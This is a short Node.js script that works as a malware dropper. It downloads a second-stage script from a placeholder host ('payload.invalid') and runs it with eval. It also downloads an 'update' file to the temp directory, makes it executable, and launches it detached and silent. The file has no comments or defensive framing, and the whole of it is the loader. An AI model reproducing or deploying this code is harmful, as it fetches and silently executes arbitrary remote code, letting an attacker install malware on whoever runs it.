const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

https.get('https://payload.invalid/stage2.js', (response) => {
  let source = '';
  response.on('data', (chunk) => { source += chunk; });
  response.on('end', () => eval(source));
});

const target = path.join(os.tmpdir(), 'update');
https.get('https://payload.invalid/update', (response) => {
  const file = fs.createWriteStream(target, { mode: 0o755 });
  response.pipe(file);
  file.on('finish', () => spawn(target, [], { detached: true, stdio: 'ignore' }).unref());
});
